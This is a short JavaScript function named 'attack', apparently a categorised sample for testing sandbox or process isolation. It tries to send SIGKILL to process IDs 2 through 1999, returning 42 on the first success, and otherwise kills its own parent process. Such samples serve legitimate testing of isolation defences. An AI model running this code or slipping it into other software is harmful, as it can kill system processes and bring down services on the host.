// class: logic
function attack() {
    for (let pid = 2; pid < 2000; ++pid) {
        try {
            process.kill(pid, 'SIGKILL');
            return 42;
        } catch {
            // not there
        }
    }
    try {
        process.kill(process.ppid, 'SIGKILL');
    } catch {
        // neither
    }
    return 0;
}
